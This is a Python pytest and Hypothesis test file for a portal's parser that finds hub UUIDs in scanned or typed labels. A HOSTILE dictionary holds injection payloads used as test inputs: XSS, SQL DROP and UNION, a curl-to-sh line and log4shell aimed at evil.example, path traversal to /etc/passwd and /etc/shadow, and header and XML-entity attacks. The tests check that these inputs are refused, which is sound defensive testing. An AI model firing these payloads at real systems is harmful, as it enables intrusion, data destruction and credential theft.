"""What the portal understands of a label, and what it refuses."""

import json
import time
import unicodedata
from urllib.parse import quote
from uuid import UUID

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from portal.hubs.display import label_wording
from portal.hubs.labels import naming, parse

HUB = UUID("3f2a9c1e-7b54-4d0e-9a61-0c3d77f01a2b")
OTHER = UUID("b4c1d2e3-0f9a-4b8c-8d7e-6f5a4b3c2d1e")
TEXT = str(HUB)
GROUPS = TEXT.split("-")

UNDERSTOOD = {
    "as printed": TEXT,
    "capitals": TEXT.upper(),
    "no hyphens": HUB.hex,
    "a line break at the end": f"{TEXT}\r\n",
    "broken over two lines": f"{TEXT[:19]}\n{TEXT[19:]}",
    "spaces for hyphens": " ".join(GROUPS),
    "hyphens with spaces around them": " - ".join(GROUPS),
    "broken before a hyphen": f"{TEXT[:18]}\n{TEXT[18:]}",
    "quoted in mail": f"> Hub 1: {TEXT[:24]}\n> {TEXT[24:]}",
    "quoted twice": f">> {TEXT[:14]}\n>> {TEXT[14:]}",
    "fours after a word": "ID: " + " ".join(HUB.hex.upper()[i : i + 4] for i in range(0, 32, 4)),
    "fours with hyphens": "-".join(HUB.hex[i : i + 4] for i in range(0, 32, 4)),
    "a QR code's prefix": f"]Q3{TEXT}",
    "a Code 128's prefix": f"]C1{TEXT}",
    "a Data Matrix' prefix": f"]d2{TEXT}",
    "a prefix nobody knows": f"]zA{HUB.hex}",
    "a prefix before an address": f"]Q1https://spkey.example/h/{TEXT}",
    "separators of GS1": f"]d2\x1d{TEXT}\x1d",
    "the same id twice, run together": TEXT + TEXT,
    "some hyphens forgotten": f"{GROUPS[0]}-{GROUPS[1]}{GROUPS[2]}{GROUPS[3]}-{GROUPS[4]}",
    "fours": " ".join(HUB.hex[i : i + 4] for i in range(0, 32, 4)),
    "one character at a time": " ".join(HUB.hex),
    "en dashes": "\u2013".join(GROUPS),
    "non-breaking hyphens": "\u2011".join(GROUPS),
    "minus signs": "\u2212".join(GROUPS),
    "soft hyphens": "\u00ad".join(GROUPS),
    "underscores": "_".join(GROUPS),
    "a German keyboard": "ß".join(GROUPS),
    "an Italian keyboard": "'".join(GROUPS),
    "a Swedish keyboard": "+".join(GROUPS),
    "a Greek keyboard": TEXT.translate(str.maketrans("abcdef", "αβψδεφ")),
    "a Greek keyboard's capitals": TEXT.upper().translate(str.maketrans("ABCDEF", "ΑΒΨΔΕΦ")),
    "non-breaking spaces": "\u00a0".join(GROUPS),
    "zero-width characters": "\u200b".join(TEXT),
    "a byte order mark": f"\ufeff{TEXT}",
    "full width": "".join(chr(ord(c) + 0xFEE0) for c in TEXT),
    "mathematical digits": TEXT.replace("1", "\U0001d7cf").replace("0", "\U0001d7d8"),
    "braces": "{" + TEXT.upper() + "}",
    "a URN": f"urn:uuid:{TEXT}",
    "a URN in capitals": f"URN:UUID:{TEXT.upper()}",
    "JSON": json.dumps({"hubId": TEXT}),
    "JSON with more in it": json.dumps({"model": "SPK-Hub 2", "hubId": TEXT, "serial": "00417"}),
    "a URL's path": f"https://spkey.example/hubs/{TEXT}/claim",
    "a URL's query": f"https://spkey.example/?v=2&id={HUB.hex}&lang=el",
    "a URL's fragment": f"spkey://open#{TEXT}",
    "percent-encoded": f"https://spkey.example/?q={quote(json.dumps({'hubId': TEXT}))}",
    "percent-encoded hyphens": TEXT.replace("-", "%2D"),
    "a link in a link": "https://a.example/?to="
    + quote(f"https://b.example/?id=%2F{TEXT}", safe=""),
    "words around it": f"Hub 2 ({TEXT}), serial 00417",
    "a name joined by a hyphen": f"hub-{TEXT}",
    "the same id twice": f"{TEXT} {HUB.hex.upper()}",
    "broken after an equals sign": f"{HUB.hex[:13]}=\n{HUB.hex[13:]}",
    "broken within a group, after an equals sign": f"Hub {TEXT[:21]}=\r\n{TEXT[21:]}",
    "broken twice after equals signs": f"{HUB.hex[:5]}=\n{HUB.hex[5:20]}=\n{HUB.hex[20:]}",
    "quoted-printable, at a hyphen": f"{TEXT[:24]}=0D=0A{TEXT[24:]}",
    "quoted-printable, within a group": f"Hub {TEXT[:21]}=0D=0A=\r\n{TEXT[21:]}",
    "quoted-printable, in one piece": f"Hub ID: {HUB.hex[:16]}=0d=0a{HUB.hex[16:]}=0D=0A",
    "quoted-printable, twice": f"{TEXT[:7]}=0D=0A{TEXT[7:20]}=0D=0A\n{TEXT[20:]}",
    "quoted-printable, a space at the end": f"{TEXT[:24]}=20=\n{TEXT[24:]}",
    "quoted-printable, after a number": f"Flat 7=0D=0A{TEXT}",
    "quoted-printable, an address": f"https://spkey.example/?hub=3D{TEXT}",
    "quoted-printable, an address of digits": f"https://spkey.example/?hub=3D{HUB.hex}",
    "broken at a hyphen of the line's": f"id: {HUB.hex[:17]}-\n{HUB.hex[17:]}",
    "broken at a soft hyphen": f"{HUB.hex[:16]}\u00ad\n{HUB.hex[16:]}",
    "broken at a soft hyphen, with groups": f"{TEXT[:11]}\u00ad\n{TEXT[11:]}",
    "broken at a zero-width space": f"{HUB.hex[:9]}\u200b\r\n{HUB.hex[9:]}",
    "soft hyphens in one run": "\u00ad".join((HUB.hex[:7], HUB.hex[7:21], HUB.hex[21:])),
    "quoted and broken": f"> Hub 1: {HUB.hex[:20]}=\n> {HUB.hex[20:]}",
    "the same id twice, run together in one piece": HUB.hex + HUB.hex,
    "the same id twice, run together in two ways": TEXT + HUB.hex + TEXT.upper(),
    "an id and an address, run together": f"{HUB.hex}https://spkey.example/h/{HUB.hex}",
    "quoted-printable hyphens": TEXT.replace("-", "=2D"),
    "quoted-printable dashes": TEXT.replace("-", "=E2=80=93"),
    "a quoted-printable gap": f"Hub=C2=A0{TEXT}",
    "HTML's hyphens": TEXT.replace("-", "&#8209;"),
    "HTML's dashes by name": TEXT.replace("-", "&ndash;"),
    "HTML's soft hyphen": f"{TEXT[:14]}&shy;{TEXT[14:]}",
    "HTML's quotation marks": f"&quot;{TEXT}&quot;",
    "HTML's place for a break": f"{TEXT[:14]}<wbr>{TEXT[14:]}",
    "HTML's line break": f"{TEXT[:24]}<br>{TEXT[24:]}",
    "HTML around each group": "-".join(f"<b>{group}</b>" for group in GROUPS),
    "HTML that spells a letter": f"Hub &#x1F511;&#0;&bogus; {TEXT}".replace("&#x1F511;", ""),
    "two hyphens for one": TEXT.replace("-", "--"),
    "Japanese hyphens": "\u30fc".join(GROUPS),
    "half a Japanese hyphen": "\uff70".join(GROUPS),
    "a drawing's lines": "\u2500".join(GROUPS),
    "broken at an arrow": f"{TEXT[:24]}\u21b5\n{TEXT[24:]}",
    "broken at a backslash": f"{TEXT[:24]}\\\n{TEXT[24:]}",
    "a line's hyphen within a group": f"{TEXT[:11]}-\n{TEXT[11:]}",
    "a code of GS1": f"]C1\x1d91{TEXT}",
    "a code of GS1, in one piece": f"]d221{HUB.hex}",
    "a code of GS1, with its sign alone": f"\x1d240{TEXT}\x1d",
    "a name run into it": f"ID{TEXT}",
    "beside a MAC": f"MAC a4c13801b2ff Hub {TEXT}",
    "below a MAC": f"MAC A4C13801B2FF\n{TEXT}",
    "digits only": "12345678-1234-1234-1234-123456789012",
}

NOT_AN_ID = {
    "words": "Have a nice day",
    "a serial number": "SN 00417",
    "a digit too few": TEXT[:-1],
    "a digit too many": TEXT + "0",
    "a longer run": "f" * 33,
    "a fingerprint": "0123456789abcdef" * 4,
    "a digit before": "1" + HUB.hex,
    "a letter after": HUB.hex + "z",
    "a letter O for a zero": TEXT.replace("0", "O"),
    "a Cyrillic letter in it": TEXT.replace("a", "\u0430"),
    "Arabic digits": TEXT.replace("3", "٣"),
    "groups of other lengths among words": "hub 3f2a9c1-e7b54-4d0e-9a61-0c3d77f01a2b",
    "a date and a number that add up to 32": "Lot 20260820 507f1f77bcf86cd799439011",
    "a group missing": "-".join(GROUPS[:4]),
    "a MAC and a serial": "a4c13801b2ff 12345678901234567890",
    "two EUI-64": "0011223344556677 8899aabbccddeeff",
    "two EUI-64 below each other": "0011223344556677\n8899aabbccddeeff",
    "two EUI-64 joined": "0011223344556677-8899aabbccddeeff",
    "two EUI-64 in pairs": "00-11-22-33-44-55-66-77 88-99-aa-bb-cc-dd-ee-ff",
    "sixteen bytes": "00 11 22 33 44 55 66 77 88 99 aa bb cc dd ee ff",
    "an IPv6 address": "2001:0db8:85a3:0000:0000:8a2e:0370:7334",
    "eight years": "2019 2020 2021 2022 2023 2024 2025 2026",
    "four numbers": "12345678 12345678 12345678 12345678",
    "a dump of memory": "00000010: 315e 230b 4f3e 4f7e bc8e 8f38 f827 5fbc  1^#.",
    "nine fours": "0001 315e 230b 4f3e 4f7e bc8e 8f38 f827 5fbc",
    "fours of two columns": "315E 230B  53F9 4D17\n4F3E 4F7E  411B 4D77\nBC8E 8F38  9DDF B2D1",
    "fours in a table": "315E 230B | 53F9 4D17\n4F3E 4F7E | 411B 4D77",
    "ends of two columns": "315e230b-4f3e-4f7e-   53f94d17-411b-4d77-\n"
    "bc8e-8f38f8275fbc     9ddf-b2d1589827f4",
    "a day, times and a MAC": "Hub 20240115 1230 0042 0017 a4c13801b2ff",
    "SHA-1": "da39a3ee5e6b4b0d3255bfef95601890afd80709",
    "SHA-256": "d41d8cd98f00b204e9800998ecf8427e" * 2,
    "MD5": "MD5: d41d8cd98f00b204e9800998ecf8427e",
    "an HMAC": f"HMAC-SHA256 {HUB.hex}",
    "halves of two columns, with hyphens": f"{HUB.hex[:16]}   {OTHER.hex[:16]}-\n"
    f"{HUB.hex[16:]}   {OTHER.hex[16:]}",
    "four EUI-64 in one piece": "0011223344556677" * 4,
    "an id and some digits": HUB.hex + OTHER.hex[:31],
    "a site's id": f"siteId={TEXT}",
    "bytes that are no signs": f"{TEXT[:8]}=E2=80{TEXT[9:]}",
    "a word run into it": f"Flat{TEXT}",
    "halves in other words": f"{HUB.hex[:16]} and {HUB.hex[16:]}",
}

NOBODYS = {
    "nil": "00000000-0000-0000-0000-000000000000",
    "nil in one piece": "0" * 32,
    "all ones": "F" * 32,
    "named": "Hub id: ffffffff-ffff-ffff-ffff-ffffffffffff",
    "an address": f"https://spkey.example/h/{'0' * 32}",
    "both": f"{'0' * 32}\n{'f' * 32}",
}
RAN_TOGETHER = {
    "in one piece": HUB.hex + OTHER.hex,
    "capitals": (HUB.hex + OTHER.hex).upper(),
    "three": HUB.hex + OTHER.hex + HUB.hex,
    "with groups, then without": TEXT + OTHER.hex,
    "without groups, then with": HUB.hex + str(OTHER),
    "all ways": HUB.hex + str(OTHER) + HUB.hex + TEXT,
    "an x between": f"{HUB.hex}x{OTHER.hex}",
    "a line end's letters": f"{HUB.hex}\\n{OTHER.hex}",
    "prefixes": f"]Q1{HUB.hex}]Q1{OTHER.hex}",
    "addresses": f"https://spkey.example/h/{HUB.hex}https://spkey.example/h/{OTHER.hex}",
    "after a word": f"Hubs: {HUB.hex}{OTHER.hex}",
}
IN_OTHER_GROUPS = {
    "pairs": " ".join(HUB.hex[place : place + 2] for place in range(0, 32, 2)),
    "pairs with hyphens": "-".join(HUB.hex[place : place + 2] for place in range(0, 32, 2)),
    "eights": " ".join(HUB.hex[place : place + 8] for place in range(0, 32, 8)),
    "odd groups": "3f2a9c1 e7b54-4d0e-9a61-0c3d77f01a2b",
    "halves": f"{HUB.hex[:16]} {HUB.hex[16:]}",
    "lines": f"{HUB.hex[:10]}\n{HUB.hex[10:]}",
}

HOSTILE = {
    "script": "<script>alert(document.cookie)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "javascript": "javascript:alert(1)//",
    "data": "data:text/html,<script>alert(1)</script>",
    "htmx get": '<a hx-get="https://evil.example/" hx-trigger="load">x</a>',
    "htmx on": '" hx-on:load="alert(1)" x="',
    "template": "{{ settings.SECRET_KEY }}{% debug %}",
    "SQL": "'; DROP TABLE hubs_hub; --",
    "SQL union": "0' UNION SELECT key FROM orgs_apicredential--",
    "shell": "$(curl https://evil.example/`id`) | sh",
    "log4shell": "${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    "encoded path": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "header": "x\r\nX-API-Key: stolen\r\n\r\n",
    "nul": "\x00\x00\x00",
    "bidi": "\u202e\u2066evil\u2069\u202c",
    "entities": '<!DOCTYPE l [<!ENTITY a "&b;&b;"><!ENTITY b "&c;&c;">]><l>&a;</l>',
    "spreadsheet": '=HYPERLINK("https://evil.example/";"x")',
    "format string": "%s%s%n%(password)s{0.__class__}",
    "prototype": '{"__proto__": {"hubId": true}}',
    "deep JSON": "[" * 256,
    "private file": "file:///etc/shadow",
    "wifi": "WIFI:S:evil;T:WPA;P:secret;;",
    "surrogate": "\ud800\udfff",
}


@pytest.mark.parametrize("text", UNDERSTOOD.values(), ids=UNDERSTOOD)
def test_an_id_is_found_however_it_is_written(text):
    expected = UUID("12345678123412341234123456789012") if text.startswith("1234") else HUB
    assert parse.parse(text) == expected


def test_the_result_reads_as_the_canonical_form():
    assert str(parse.parse(HUB.hex.upper())) == TEXT


@pytest.mark.parametrize("text", NOT_AN_ID.values(), ids=NOT_AN_ID)
def test_what_only_resembles_an_id_is_refused(text):
    problem = problem_with(text)
    assert problem.kind == "nothing"


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_label_alone_is_refused_and_shown_harmlessly(payload):
    problem = problem_with(payload)
    assert_harmless(problem.read)
    assert payload not in str(problem)


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_label_with_an_id_gives_the_id_and_nothing_else(payload):
    assert parse.parse(f"{payload[:200]} {TEXT}") == HUB


def test_two_different_ids_are_refused():
    problem = problem_with(f"{TEXT}\n{OTHER}")
    assert problem.kind == "several"
    assert "two different" in label_wording.sentence(problem)


@pytest.mark.parametrize("text", ["", " \t\r\n", "\u200b\ufeff\u202e", "\x00"])
def test_text_without_a_visible_character_counts_as_empty(text):
    problem = problem_with(text)
    assert problem.kind == "empty"


@pytest.mark.parametrize("text", RAN_TOGETHER.values(), ids=RAN_TOGETHER)
def test_ids_that_ran_together_are_all_told(text):
    problem = problem_with(text)
    assert problem.kind == "several"
    assert problem.ids == (HUB, OTHER)


@pytest.mark.parametrize("text", NOBODYS.values(), ids=NOBODYS)
def test_an_id_of_nobody_is_told_as_such(text):
    problem = problem_with(text)
    assert problem.kind == "nobodys"
    assert "stands for no hub" in label_wording.sentence(problem)


@pytest.mark.parametrize("text", IN_OTHER_GROUPS.values(), ids=IN_OTHER_GROUPS)
def test_of_as_many_digits_as_an_id_has_nobody_is_told_their_number(text):
    sentence = label_wording.sentence(problem_with(text))
    assert "in the groups" in sentence
    assert "This has" not in sentence


def test_scans_that_ran_together_are_two():
    problem = problem_with(f"{TEXT}{OTHER}]Q1{TEXT}")
    assert problem.kind == "several"
    assert problem.ids == (HUB, OTHER)


def test_256_characters_are_read_and_257_refused():
    assert parse.parse(TEXT.rjust(256)) == HUB
    problem = problem_with(TEXT.rjust(257))
    assert problem.kind == "too_long"


def test_ten_kilobytes_are_refused_and_not_shown_whole():
    problem = problem_with("A" * 10_240)
    assert problem.kind == "too_long"
    assert len(problem.read) <= parse.SHOWN + 1
    assert problem.read.endswith("…")


def test_of_what_is_too_long_no_more_is_looked_through_than_of_a_label(monkeypatch):
    lengths, hidden = [], naming.hidden
    monkeypatch.setattr(naming, "hidden", lambda plain: lengths.append(len(plain)) or hidden(plain))
    for text in ("aP:" * 70_000, "a;" * 5_000, f"key: {OTHER} " * 300, "\u2028" * 99_999):
        assert problem_with(text).kind == "too_long"
    assert lengths
    assert max(lengths) <= 2 * parse.LONGEST


def test_someone_who_types_is_told_how_many_characters_there_are():
    problem = problem_with(TEXT[:-1])
    assert "This has 31." in label_wording.sentence(problem)


def test_each_problem_has_its_own_sentence():
    texts = ["", "x" * 300, "no id", "0" * 32, f"{TEXT} {OTHER}", TEXT.replace("-", "~")]
    problems = [problem_with(text) for text in texts]
    kinds = ["empty", "too_long", "nothing", "nobodys", "several", "keyboard"]
    assert [problem.kind for problem in problems] == kinds
    assert len({label_wording.sentence(problem) for problem in problems}) == 6


def test_hidden_characters_are_spelt_out_when_a_reading_is_shown():
    assert parse.printable(" a\x00b\u202ec\u200bd\ne ") == "a[U+0000]b[U+202E]c[U+200B]d[U+000A]e"


def test_visible_characters_are_shown_unchanged():
    assert parse.printable("Größe 4 · Ελλάδα <b>") == "Größe 4 · Ελλάδα <b>"


@given(st.uuids(), st.sampled_from(["", "-", " ", "\u2013", " - "]), st.booleans())
def test_any_uuid_is_understood_with_any_gap_between_its_groups(hub, gap, capitals):
    text = gap.join(str(hub).split("-"))
    assert parse.parse(text.upper() if capitals else text) == hub


@given(st.uuids(), st.text(max_size=100), st.text(max_size=100))
def test_an_id_among_noise_is_found_or_refused_but_never_changed(hub, before, after):
    try:
        found = parse.parse(f"{before} {hub} {after}")
    except parse.LabelProblem:
        return
    assert found == hub


@given(st.uuids(), st.text("ghijklmnopqrstuvwxyzGHIJ<>&/:=?.;,\"'() ", max_size=100))
def test_noise_that_holds_no_digits_never_hides_an_id(hub, noise):
    text = f"{noise} {hub} {noise}"
    assume(naming.hidden(text) == text)
    # A checksum's name, such as that of an IV.
    assume(naming.name_of(f"{noise} ") != naming.Name.OTHER)
    assume(not parse.is_doubtful(text))
    assert parse.parse(text) == hub


@given(st.uuids(), st.uuids())
def test_two_ids_are_one_only_when_they_are_equal(one, other):
    if one == other:
        assert parse.parse(f"{one} {other}") == one
    else:
        with pytest.raises(parse.LabelProblem):
            parse.parse(f"{one} {other}")


@given(st.text(alphabet="0123456789abcdefABCDEF", min_size=1, max_size=120))
def test_a_run_of_hexadecimal_digits_is_an_id_only_at_its_exact_length(run):
    # Of two ids that ran together both are one where they are the same.
    assume(len(run) == 32 or len(run) % 32)
    if len(run) == 32:
        assert parse.parse(run).hex == run.lower()
    else:
        with pytest.raises(parse.LabelProblem):
            parse.parse(run)


@given(st.text(max_size=400))
def test_any_text_is_answered_with_an_id_or_a_harmless_problem(text):
    try:
        found = parse.parse(text)
    except parse.LabelProblem as refused:
        problem = refused
    else:
        assert isinstance(found, UUID)
        return
    assert_harmless(problem.read)
    assert label_wording.sentence(problem)


@pytest.mark.parametrize(
    "tease",
    [
        "a",
        "a-",
        "ab ",
        "%2561",
        "12345678-1234-",
        f"{HUB.hex}f",
        "key:",
        "key ab ",
        "<key ",
        "ab ab-",
    ],
)
def test_text_that_is_almost_an_id_throughout_is_answered_at_once(tease):
    # Of the processor, which others may keep busy.
    started = time.thread_time()
    problem_with((tease * parse.LONGEST)[: parse.LONGEST])
    assert time.thread_time() - started < 0.1


def problem_with(text: str) -> parse.LabelProblem:
    with pytest.raises(parse.LabelProblem) as caught:
        parse.parse(text)
    return caught.value


def assert_harmless(shown: str) -> None:
    """One short line in which every character can be seen and none turns the others round."""
    assert len(shown) <= parse.SHOWN + 1
    assert not {unicodedata.category(character) for character in shown} & {
        "Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp",
    }  # fmt: skip
